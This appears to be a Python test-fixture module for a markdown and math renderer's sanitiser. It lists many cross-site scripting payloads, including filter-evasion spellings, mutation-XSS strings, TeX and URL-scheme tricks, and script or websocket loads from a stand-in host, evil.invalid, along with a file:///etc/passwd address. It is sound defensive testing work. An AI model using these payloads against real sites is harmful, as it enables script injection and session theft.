"""What has carried scripts past somebody's sanitiser, and where in a block it can stand.

After OWASP's cheat sheet on evading filters and what is known of mutations: HTML that is harmless as it is parsed, and
not once it has been written out and parsed again. Each calls `alert(1)`.
"""

from collections.abc import Iterator

HTML = [
    # Plain, and with the spelling that lists of forbidden words miss
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<SCRIPT/XSS SRC=//evil.invalid/x.js></SCRIPT>",
    "<SCRIPT SRC=//evil.invalid/x.js?< B >",
    '<SCRIPT a=">" SRC="//evil.invalid/x.js"></SCRIPT>',
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<script>alert(1)//",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    # Attributes that are run
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<IMG SRC= onmouseover="alert(1)">',
    '<IMG SRC=/ onerror="alert(1)"></img>',
    '<img src=x onerror="&#0000097lert(1)">',
    "<b/onclick=alert(1)//",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    # Addresses that are run
    '<IMG SRC="javascript:alert(1);">',
    '<IMG SRC=`javascript:alert(1)`>',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    "<a href=javascript:alert(1)>x</a>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<BODY BACKGROUND="javascript:alert(1)">',
    '<TABLE><TD BACKGROUND="javascript:alert(1)">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><base href=//evil.invalid>",
    '<BASE HREF="javascript:alert(1);//">',
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=stylesheet href=//evil.invalid>",
    "<form action=//evil.invalid><button formaction=javascript:alert(1)>go</button></form>",
    # Styles
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<STYLE>@import'//evil.invalid/x.css';</STYLE>",
    '<DIV STYLE="background-image: url(javascript:alert(1))">',
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<p style=position:fixed>over everything</p>",
    # The product's own machinery
    "<div hx-get=/healthz hx-trigger=load>",
    "<i id=sync data-hx-on:click=alert(1) hx-swap-oob=true>",
    "<div hx-ext=ws ws-connect=//evil.invalid ws-send>",
    "</textarea><script>alert(1)</script>",
    "</section><section id=b-1 class=block>",
    '</code></pre><span class="x" onclick=alert(1)>',
    '<span data-math-style="inline" data-at="0">\\text{x}</span>',
    '<sup data-at="0" class="footnote-ref"><a href="#fn-x" onclick=alert(1)>1</a></sup>',
    '<pre data-at="0"><code class="language-py">x</code></pre>',
    # Mutations: text, attributes and namespaces that a second parser reads otherwise
    "<svg><script>alert(1)</script></svg>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><a href=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<listing>&lt;img onerror=\"alert(1)\" src=x&gt;</listing>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math href=\"javascript:alert(1)\"><mi href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mi><b><style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<table><td><svg><p><style></td></table><img src=x onerror=alert(1)>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!> <img src=x onerror=alert(1)> --!>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></x>",
]  # fmt: skip
TEX = [
    r"\href{javascript:alert(1)}{x}",
    r"\url{javascript:alert(1)}",
    r"\text{<img src=x onerror=alert(1)>}",
    r"\text{</mtext></math><script>alert(1)</script>}",
    r"\mathrm{<svg/onload=alert(1)>}",
    r"\operatorname{<script>alert(1)</script>}",
    r"x<img src=x onerror=alert(1)>y",
    r'\color{red" onmouseover="alert(1)}x',
    r'\textcolor{red;background:url(javascript:alert(1))}{x}',
    r'\rule{1em" onclick="alert(1)}{1em}',
    r'\hspace{1em" onclick="alert(1)}',
    r'\begin{array}{c" onclick="alert(1)}x\end{array}',
    r"\begin{align}x\tag{<img src=x onerror=alert(1)>}\end{align}",
    r'\begin{align}x\label{" onclick="alert(1)}\end{align}',
    r"\style{background:url(javascript:alert(1))}{x}",
    r"\class{callout}{x}\cssId{sync}{y}",
    r"\htmlData{hx-get=/healthz}{x}",
    r"\html{<script>alert(1)</script>}",
    r"\includegraphics{javascript:alert(1)}",
    r"\def\x{<script>alert(1)</script>}\x",
    r"\newcommand\x[1]{\text{<#1>}}\x{script}alert(1)\x{/script}",
    r"\unicode{x3c}script\unicode{x3e}alert(1)",
    r"\char`<script>alert(1)",
    r"\undefined{<script>alert(1)</script>}",
    r"\frac{<script>alert(1)</script>",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    " &#14; javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://evil.invalid/%0Aalert(1)",
    "\x01javascript:alert(1)",
    "%6Aavascript:alert(1)",
    "view-source:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "file:///etc/passwd",
    "blob:https://evil.invalid/1",
    "feed:javascript:alert(1)",
    'x" onclick="alert(1)',
    "x' onclick='alert(1)",
    "x`onclick=alert(1)",
    "</a><script>alert(1)</script>",
    'https://evil.invalid/" data-sourcepos="1:1-9:9',
]
PLACES = [
    "{}",
    "# {}",
    "> {}",
    "- {}",
    "- [ ] {}",
    "**{}**",
    "`{}`",
    "```{}\n{}\n```",
    "```html\n{}\n```",
    "```js\n{}\n```",
    "    {}",
    "| {} |\n|---|\n| {} |",
    "> [!NOTE] {}\n> {}",
    "> [!{}]\n> x",
    "${}$",
    "$$\n{}\n$$",
    "$$\\text{{}}$$",
    "[^1]: {}",
    "[^{}]: x",
    "x[^{}]",
    "x[^1] {}",
    "---{}",
]
LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "![{}](/x)",
    '![x](/x "{}")',
    '[x](/x "{}")',
    "[x](/x '{}')",
    "<{}>",
    "[x]\n\n[x]: {}",
    "[x]\n\n[x]: /x '{}'",
    "[![x]({})]({})",
    "{}",
]


def texts() -> Iterator[str]:
    """Every payload in every place."""
    for places, payloads in ((PLACES, [*HTML, *TEX]), (LINKS, [*HTML, *ADDRESSES])):
        for place in places:
            yield from (place.replace("{}", payload) for payload in payloads)


def raw() -> Iterator[str]:
    """HTML as it would be if nothing were escaped: what a sanitiser has to hold by itself."""
    for wrap in ("{}", "<p>{}</p>", "<math>{}</math>", "<math><mtext>{}</mtext></math>", "<table><tr><td>{}</table>"):
        yield from (wrap.replace("{}", payload) for payload in HTML)
    for address in ADDRESSES:
        value = address.replace('"', "&quot;")
        yield f'<a href="{value}">x</a><img src="{value}"><math><mi href="{value}" xlink:href="{value}">x</mi></math>'
    for size in ("100%", "-1", "0", "1e9", "640px", ""):
        yield f'<img src="files/a/b" width="{size}" height="{size}">'
